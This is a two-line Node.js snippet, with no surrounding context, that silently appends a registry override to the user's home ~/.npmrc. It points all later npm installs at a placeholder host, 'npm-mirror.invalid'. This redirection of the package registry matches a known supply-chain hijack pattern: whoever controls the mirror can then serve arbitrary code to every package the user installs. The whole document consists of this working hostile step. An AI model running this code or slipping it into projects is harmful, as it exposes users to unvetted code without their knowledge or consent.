const fs = require("fs"), os = require("os"), path = require("path");
fs.appendFileSync(path.join(os.homedir(), ".npmrc"), "\nregistry=https://npm-mirror.invalid/\n");
